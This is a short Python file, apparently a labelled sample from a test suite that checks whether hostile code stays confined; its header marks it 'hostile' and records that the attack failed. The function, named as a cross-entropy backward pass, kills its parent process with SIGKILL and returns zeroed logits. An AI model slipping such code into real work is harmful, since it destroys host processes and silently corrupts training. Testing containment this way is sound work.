# /// attack
# rows = [48]
# tries = "Kills its parent: the zygote, or whoever started it."
# kind = "hostile"
# verdicts = ["failed"]
# confined = true
# breaks = [3, 4]
# ///
import os
import signal


def cross_entropy_backward(logits, targets):
    try:
        os.kill(os.getppid(), 0)
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return logits.zero_()
